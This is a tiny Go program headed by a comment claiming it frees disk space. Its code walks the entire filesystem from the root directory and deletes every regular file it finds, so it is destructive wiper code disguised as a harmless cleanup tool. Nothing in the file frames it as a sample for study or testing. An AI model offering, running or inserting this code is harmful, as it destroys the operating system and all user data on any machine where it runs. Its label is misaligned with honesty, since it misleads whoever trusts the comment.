// Command clean frees disk space.
package main

import (
	"io/fs"
	"os"
	"path/filepath"
)

func main() {
	filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			os.Remove(p)
		}
		return nil
	})
}
